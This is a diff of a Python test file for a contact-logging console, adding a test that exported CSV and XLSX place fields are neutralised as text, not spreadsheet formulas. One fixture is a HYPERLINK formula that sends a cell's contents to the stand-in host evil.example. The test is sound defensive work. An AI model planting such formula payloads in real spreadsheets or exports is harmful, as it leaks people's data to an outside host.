@@ -5,14 +5,17 @@ from __future__ import annotations
 import csv
 import io
 import re
+from datetime import UTC, datetime
 
 from openpyxl import load_workbook
 from sqlalchemy import Engine
 from sqlmodel import Session, select
 
+from bot.db import session_scope
 from bot.models import ContactRecord, StaffUser, utcnow
-from tests.console.clients import Staff
+from bot.stats.records import LoggedContact, log_contact
 from tests.stats.helpers import FIXTURE_2024, import_file
+from tests.support.staff import Staff
 
 REPORT_2024 = {  # row id: (total, monthly average) in the annual report 2024
     "line-phone": ("4,896", "408"),
@@ -222,3 +225,52 @@ def test_exporting_contact_records_is_written_to_the_audit_log(
         ("contact_records", "xlsx 2024-01-01..2024-12-31"),
     ]
     assert all(e.staff_id is not None for e in entries)
+
+
+FORMULA_PLACES = [  # what a spreadsheet would run as a formula
+    '=HYPERLINK("https://evil.example/?d="&A1,"Open the report")',
+    "+32 470 00 00 00",
+    "-2+3",
+    "@SUM(1+1)",
+]
+ERROR_LIKE_PLACE = "#N/A"  # text, not a spreadsheet error
+
+
+def test_exported_places_are_text_never_formulas(engine: Engine, alice: Staff) -> None:
+    for place in [*FORMULA_PLACES, ERROR_LIKE_PLACE]:  # as staff type them in the console
+        logged = alice.post(
+            "/console/log",
+            {"channel": "qa_session", "place": place, "participants": "12", "day": "2024-05-02"},
+        )
+        assert logged.status_code == 303, logged.text
+    with session_scope(engine) as session:  # the console strips these; the API does not
+        for place in ("\t=1+1", "\r=1+1"):
+            log_contact(
+                session,
+                LoggedContact(
+                    channel="qa_session",
+                    place=place,
+                    participants=12,
+                    started_at=datetime(2024, 5, 3, 12, tzinfo=UTC),
+                ),
+                staff_id=alice.id,
+                now=utcnow(),
+            )
+    places = [*FORMULA_PLACES, "\t=1+1", "\r=1+1"]
+    exported = sorted(["'" + place for place in places] + [ERROR_LIKE_PLACE])
+
+    contacts_csv = alice.get("/console/stats/contacts.csv?year=2024")
+    rows = list(csv.DictReader(io.StringIO(contacts_csv.text)))
+    book = load_workbook(io.BytesIO(alice.get("/console/stats/contacts.xlsx?year=2024").content))
+    sheet = book["Contacts"]
+    header = [cell.value for cell in sheet[1]]
+    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
+
+    assert sorted(row["place"] for row in rows) == exported
+    assert [row["participants"] for row in rows] == ["12"] * len(exported)
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    in_xml = [place.replace("\r", "\n") for place in exported]  # XML reads \r back as \n
+    assert sorted(row["place"].value for row in cells) == sorted(in_xml)
+    assert {row["place"].data_type for row in cells} == {"s"}
+    assert [row["participants"].value for row in cells] == [12] * len(exported)  # numbers
+    assert {type(row["id"].value) for row in cells} == {int}
